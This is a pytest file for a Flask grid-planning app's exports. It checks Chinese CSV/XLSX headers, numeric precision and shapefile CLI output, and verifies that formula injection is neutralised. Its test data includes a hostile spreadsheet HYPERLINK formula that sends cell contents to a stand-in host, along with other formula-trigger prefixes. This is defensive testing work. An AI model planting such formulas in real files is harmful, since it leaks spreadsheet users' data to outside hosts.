"""Exports people open (issue 10 §7) and no formula injection in them (issue 16 §3)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select, update

from api.cli import main
from api.db import session_scope
from api.models import Building, PlanAssignment, PlanGrid
from tests.api.plans_helpers import district_app, login, partitioned_plan

N_BUILDINGS = 600
HOSTILE = '=HYPERLINK("http://x"&A1,"点击")'
OTHERS = ["+1+2", "-3+4", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    with district_app(tmp_path_factory.mktemp("exports"), N_BUILDINGS) as app:
        yield app


@pytest.fixture(scope="module")
def planner(app: Flask) -> FlaskClient:
    return login(app, "planner")


@pytest.fixture(scope="module")
def plan(app: Flask, planner: FlaskClient) -> int:
    plan_id = partitioned_plan(planner, "导出方案")
    with app.app_context(), session_scope() as s:  # names as a hostile file or edit would give them
        grids = s.scalars(select(PlanGrid.grid_id).where(PlanGrid.plan_version_id == plan_id)
                          .order_by(PlanGrid.grid_id)).all()
        for gid, name in zip(grids, [HOSTILE, *OTHERS], strict=False):
            s.execute(update(PlanGrid).where(PlanGrid.plan_version_id == plan_id, PlanGrid.grid_id == gid)
                      .values(name=name))
        bid = s.scalars(select(PlanAssignment.building_id).where(PlanAssignment.plan_version_id == plan_id)
                        .order_by(PlanAssignment.building_id)).first()
        s.execute(update(Building).where(Building.building_id == bid).values(name=HOSTILE))
    return plan_id


def _get(client: FlaskClient, plan: int, **query: str) -> bytes:
    r = client.get(f"/api/plans/{plan}/export", query_string=query)
    assert r.status_code == 200, r.data[:300]
    return r.data


def test_csv_has_chinese_headers_values_and_sensible_precision(planner: FlaskClient, plan: int) -> None:
    data = _get(planner, plan, format="csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert list(rows[0])[:6] == ["网格ID", "网格编码", "名称", "社区ID", "户数", "楼栋数"]
    assert {r["户数状态"] for r in rows} <= {"达标", "低于下限", "超过上限", "专属网格"}
    assert {r["锁定"] for r in rows} <= {"是", "否"}
    assert all(r["面积(平方米)"].isdigit() for r in rows)
    assert all(len(r["紧凑度(Polsby-Popper)"].split(".")[-1]) <= 3 for r in rows)
    canonical = list(csv.DictReader(io.StringIO(_get(planner, plan, format="csv", headers="canonical")
                                                .decode("utf-8-sig"), newline="")))
    assert list(canonical[0])[:2] == ["grid_id", "code"] and {r["status"] for r in canonical} <= {
        "in", "under", "over", "exclusive"}
    r = planner.get(f"/api/plans/{plan}/export?format=csv&headers=klingon")
    assert r.status_code == 400 and "headers" in r.get_json()["error"]["fix"]


def test_csv_and_xlsx_neutralise_formulas(planner: FlaskClient, plan: int) -> None:
    rows = list(csv.DictReader(io.StringIO(_get(planner, plan, format="csv").decode("utf-8-sig"), newline="")))
    names = {r["名称"] for r in rows}
    assert "'" + HOSTILE in names and HOSTILE not in names
    assert {"'" + v for v in OTHERS} <= names
    wb = load_workbook(io.BytesIO(_get(planner, plan, format="xlsx")))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    values = {c.value for c in cells}
    assert "'" + HOSTILE in values and not {HOSTILE, *OTHERS} & values
    ws = wb["网格统计"]
    assert [c.value for c in ws[1]][:5] == ["网格ID", "网格编码", "名称", "社区ID", "户数"]
    assert [c.value for c in wb["楼栋归属"][1]] == ["楼栋ID", "网格ID", "网格编码", "单元ID", "户数", "名称"]
    areas = [r[6].value for r in ws.iter_rows(min_row=2)]
    assert all(isinstance(a, int) for a in areas)


def test_cli_shapefile_export_writes_a_zip_or_a_folder(app: Flask, plan: int, tmp_path: Path) -> None:
    runner = app.test_cli_runner()
    res = runner.invoke(main, ["export", str(plan), "--format", "shp", "-o", str(tmp_path / "plan.shp")])
    assert res.exit_code == 0, res.output
    folder = tmp_path / "plan"
    assert not (tmp_path / "plan.shp").exists() and folder.is_dir()
    names = {p.name for p in folder.iterdir()}
    assert {f"grids{e}" for e in (".shp", ".shx", ".dbf", ".prj", ".cpg")} <= names
    assert f"exported to folder {folder}" in res.output and "grids.shp" in res.output
    import geopandas as gpd

    assert len(gpd.read_file(folder / "grids.shp")) > 0
    res = runner.invoke(main, ["export", str(plan), "--format", "shp", "-o", str(tmp_path / "p.zip")])
    assert res.exit_code == 0 and zipfile.is_zipfile(tmp_path / "p.zip") and "p.zip" in res.output
    res = runner.invoke(main, ["export", str(plan), "--format", "csv", "--headers", "canonical",
                               "-o", str(tmp_path / "s.csv")])
    assert res.exit_code == 0 and (tmp_path / "s.csv").read_text(encoding="utf-8-sig").startswith("grid_id,")
